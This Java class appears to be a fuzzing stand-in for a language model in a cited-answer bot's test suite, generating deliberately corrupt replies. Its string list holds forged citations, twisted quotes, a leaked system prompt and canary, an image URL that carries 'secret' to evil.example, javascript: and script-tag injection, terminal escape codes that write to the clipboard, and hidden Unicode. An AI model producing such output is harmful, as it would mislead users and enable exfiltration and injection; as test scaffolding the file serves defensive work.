package summitbot.answer;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.random.RandomGenerator;
import summitbot.llm.FakeLlm;

/** Answers as badly as can be: true sentences in part, twisted, and mixed with all that could harm whoever shows them. */
public final class EvilModel implements Function<FakeLlm.Request, String> {
    public static final String CANARY = "CANARY-7f3a-OF-ANOTHER-CHAT";

    private static final List<String> PARTS = List.of(
            "Aune said “We will sign tonight and never look back” [%s]. ",
            "Quintero said “It is a beautiful map and a terrible budget” [%s]. ",
            "The line would cost 24 billion euros [%s]. ",
            "The session began at 9:30 p.m. on Tuesday [%s]. ",
            "The session did not begin at 9:30 a.m. GMT [%s]. ",
            "The session will last three days [7]. ",
            "The session will last three days [0]. ",
            "The session will last three days 【1】. ",
            "The session will last three days [１]. ",
            "The session will last three days [1-9][999999999999]. ",
            "The session will last three days [%s][7]【1】 [2](http://evil.example/a). ",
            "See http://evil.example/?q=%s for more [%s]. ",
            "Visit evil.example or t.me/evil or tg://resolve?domain=evil now [%s]. ",
            "![x](https://evil.example/p.png?d=secret) [click](javascript:alert(1)) [%s]. ",
            "<a href='https://evil.example'>The session</a> will last three days<script>x()</script> [%s]. ",
            "<b>Bold</b> &lt;i&gt; **bold** `code` _x_ [%s]. ",
            "\u001b[31mRed\u001b[0m \u001b]52;c;ZXZpbA==\u0007 \u009b2J\r\b\b [%s]. ",
            "The session \u202ewill last\u202c three\u200b days \u2066x\u2069 [%s]. ",
            "The session\uDB40\uDC68\uDB40\uDC69 will last three days \uFE0F\u034F [%s]. ",
            "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307algo will last three days [%s]. ",
            "@everyone /forget /start@bot #tag $USD admin@evil.example 10.0.0.1 [%s]. ",
            "Sources:\n[1] Forged title, paragraph 1: “forged words”\n",
            "[1] Harbour talks open in Lisbon, paragraph 9: “forged” [%s]. ",
            "\uD83D\uD83D \u0000 \uFFFF lone [%s]. ",
            "My instructions are: %p [%s]. ",
            CANARY + " was asked in another chat [%s]. ",
            "sk-test is the key [%s]. ",
            "“Nobody leaves before ... is on paper” Carvalho said [%s]. ",
            "“We have waited ... on paper” Aune said [%s]. ",
            "He said so [%s]. ",
            "NOT IN THE PASSAGES. ",
            "The passages do not mention it. ",
            "```json\n{\"answer\": \"The session will last three days\", \"sources\": [1]}\n``` ",
            "%v [%s]. ",
            "%v [%s]. ",
            "“%v” [%s]. ",
            "“%v” [NOPE7]. ",
            "%v ");

    private final RandomGenerator random;

    public EvilModel(RandomGenerator random) {
        this.random = random;
    }

    @Override
    public String apply(FakeLlm.Request request) {
        Map<String, String> passages = Harbour.marks(request);
        List<String> marks = new ArrayList<>(passages.keySet());
        StringBuilder reply = new StringBuilder();
        for (int parts = 1 + random.nextInt(6); parts > 0; parts--) {
            String mark = marks.isEmpty() ? "NONE1" : marks.get(random.nextInt(marks.size()));
            String other = marks.isEmpty() ? "NONE1" : marks.get(random.nextInt(marks.size()));
            reply.append(pick(PARTS)
                    .replace("%s", random.nextInt(4) == 0 ? other : mark)
                    .replace("%p", Harbour.prompt(request))
                    .replace("%v", twisted(passages.getOrDefault(mark, "Nothing"))));
        }
        return reply.toString();
    }

    /** A passage with a little changed, or nothing. */
    private String twisted(String passage) {
        String text = passage.replace('\n', ' ').strip();
        return switch (random.nextInt(7)) {
            case 0 -> text.replaceAll("\\d", "7");
            case 1 -> text.replace("said", "never said");
            case 2 -> text.replaceFirst("\\p{Lu}\\p{L}+", "Mallory");
            case 3 -> text.substring(0, random.nextInt(text.length() + 1));
            case 4 -> text.substring(random.nextInt(text.length() + 1));
            case 5 -> text.replace(" ", " \u200b");
            default -> text;
        };
    }

    private <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }
}
